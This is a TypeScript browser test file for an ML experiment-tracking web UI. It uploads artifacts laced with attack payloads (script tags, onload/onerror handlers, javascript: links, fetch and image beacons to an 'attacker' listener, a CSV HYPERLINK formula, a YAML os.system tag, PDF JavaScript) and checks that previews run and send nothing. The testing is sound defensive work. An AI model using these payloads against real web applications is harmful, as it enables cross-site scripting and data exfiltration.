import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { type Browser, openBrowser } from './browser.ts';
import { pdfOf } from './logged-artifacts.ts';
import { createExperiment, createRun, upload } from './seed.ts';
import { startServer, type WebServer } from './server.ts';

let server: WebServer;
let browser: Browser;
let run: string;
let listener: Server;
/** What reached the attacker. */
const reached: string[] = [];

beforeAll(async () => {
  listener = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
  const attacker = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await startServer();
  browser = await openBrowser(server);
  const experiment = await createExperiment(server.url, '"><script>parent.owned=1</script>');
  const script = `<script>try{parent.owned=1}catch{} fetch('${attacker}/fetch');new Image().src='${attacker}/image';document.title='ran'</script>`;
  const img = `<img src="${attacker}/img" onerror="parent.owned=1">`;
  run = await createRun(server.url, experiment, {
    name: `<svg onload=parent.owned=1>`,
    start_time: 1_700_000_000_000,
    params: { key: script.slice(0, 400) },
    tags: {
      'mlflow.note.content': `${script}\n\n${img}\n\n[link](javascript:owned=1)\n\n<form action="${attacker}"><button>x</button></form>`,
    },
    metrics: { loss: [1] },
  });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.owned=1">${script}<image href="${attacker}/svg"/></svg>`;
  const redirect = `<meta http-equiv="refresh" content="0;url=${attacker}/refresh"><script>location='${attacker}/location'</script>`;
  const files: Readonly<Record<string, string | Buffer>> = {
    'page.html': `${script}${img}<link rel=stylesheet href="${attacker}/css"><h1>page</h1>`,
    'away.html': redirect,
    'drawing.svg': svg,
    'note.md': `${script}\n\n${img}\n\n<iframe src="${attacker}/frame"></iframe>`,
    'table.csv': `a,b\n=HYPERLINK("${attacker}"),${script}\n`,
    'data.json': JSON.stringify({ columns: ['<script>'], data: [[script]] }),
    'text.txt': script,
    'image.png': svg,
    'tree.json': JSON.stringify({ [script]: { [img]: `javascript:parent.owned=1//${img}` }, __proto__: { owned: 1 } }),
    'lines.jsonl': `${JSON.stringify({ a: script })}\n${img}\n`,
    'tags.yaml': `a: !!js/function 'function () { parent.owned = 1 }'\nb: !!python/object/apply:os.system ["${attacker}"]\n`,
    'model/MLmodel': mlmodel(script, attacker),
    'model/input_example.json': script,
    'change.patch': `diff --git a/x b/x\n@@ -1 +1 @@\n+${script}\n`,
    'images/k+step+0+timestamp+1+00000000-0000-4000-8000-000000000000.png': svg,
    'table_images.json': JSON.stringify({
      columns: ['image', img],
      data: [[{ type: 'image', filepath: `${attacker}/table`, compressed_filepath: `//${attacker}/table` }, script]],
    }),
    'footer.parquet': Buffer.concat([Buffer.from('PAR1'), Buffer.from([255, 255, 255, 127]), Buffer.from('PAR1')]),
    'text.parquet': script,
    'launch.pdf': pdfOf(
      'BT /F1 24 Tf 72 700 Td (owned) Tj ET',
      `<< /S /JavaScript /JS (parent.owned=1; app.launchURL\\('${attacker}/pdf'\\)) /Next << /S /URI /URI (${attacker}/uri) >> >>`,
    ),
    'text.pdf': `%PDF-1.4\n${script}`,
    'logs/train.log': `\u001b]8;;${attacker}/link\u0007${script}\u001b]8;;\u0007`,
  };
  for (const [path, text] of Object.entries(files)) await upload(server.url, run, path, text);
});
afterEach(() => browser.tidy());
afterAll(async () => {
  await browser.close();
  await server.dispose();
  listener.close();
});

/** A model whose every field would be more than a text. */
const mlmodel = (script: string, attacker: string): string => `flavors:
  ${JSON.stringify(script)}: {loader: ${JSON.stringify(script)}}
  python_function: {env: "../../${attacker}", loader_module: ${JSON.stringify(script)}}
mlflow_version: ${JSON.stringify(script)}
saved_input_example_info: {artifact_path: input_example.json, serving_input_path: "${attacker}/example"}
signature:
  inputs: ${JSON.stringify(JSON.stringify([{ type: 'string', name: script }]))}
  outputs: null
  params: null
`;

it.each([
  'page.html',
  'away.html',
  'drawing.svg',
  'note.md',
  'table.csv',
  'data.json',
  'text.txt',
  'image.png',
  'tree.json',
  'lines.jsonl',
  'tags.yaml',
  'model/MLmodel',
  'change.patch',
  'images/k+step+0+timestamp+1+00000000-0000-4000-8000-000000000000.png',
  'table_images.json',
  'footer.parquet',
  'text.parquet',
  'launch.pdf',
  'text.pdf',
])('N-7, N-8: %s runs nothing on our origin and sends nothing', async (path) => {
  const before = browser.problems.length;
  const page = await browser.open(`/runs/${run}/artifacts/${path}`);
  await page.locator('.preview').waitFor();
  await page.waitForTimeout(800);
  const runScripts = page.getByRole('button', { name: 'Run scripts' });
  if (await runScripts.isVisible()) {
    await runScripts.click();
    await page.waitForTimeout(800);
  }
  expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  expect(reached).toEqual([]);
  // What a logged page itself tries is refused, and told, in its own frame.
  if (!path.endsWith('.html')) expect(browser.problems.slice(before)).toEqual([]);
});

it('a page shows, and its scripts run when asked for', async () => {
  await upload(server.url, run, 'report.html', "<h1>Report</h1><script>document.write('<p>by script</p>')</script>");
  const page = await browser.open(`/runs/${run}/artifacts/report.html`);
  const frame = page.frameLocator('iframe');
  await frame.getByRole('heading', { name: 'Report' }).waitFor();
  expect(await frame.getByText('by script').count()).toBe(0);
  await page.getByRole('button', { name: 'Run scripts' }).click();
  await frame.getByText('by script').waitFor();
});

it('a log is text', async () => {
  const page = await browser.open(`/runs/${run}/logs`);
  await page.getByRole('log').getByText('<script>').waitFor();
  expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  expect(await page.getByRole('log').locator('a').count()).toBe(0);
  expect(reached).toEqual([]);
});

it('a comparison runs nothing either', async () => {
  const other = await createRun(server.url, '0', { name: 'other', start_time: 1 });
  for (const path of ['drawing.svg', 'table.csv', 'data.json', 'text.txt', 'text.parquet']) {
    const page = await browser.open(`/compare?runs=${run},${other}&tab=artifacts&path=${path}`);
    await page.locator('.zoom-images, .compare-texts').first().waitFor();
    await page.waitForTimeout(300);
    expect(await page.evaluate('globalThis.owned')).toBeUndefined();
    await page.close();
  }
  expect(reached).toEqual([]);
});

it('names, params and notes are text', async () => {
  const page = await browser.open(`/runs/${run}`);
  await page.getByRole('heading', { level: 1, name: '<svg onload' }).waitFor();
  await page.locator('.markdown').waitFor();
  await page.waitForTimeout(500);
  expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  expect(await page.locator('.markdown form, .markdown a[href^="javascript"]').count()).toBe(0);
  expect(reached).toEqual([]);
});
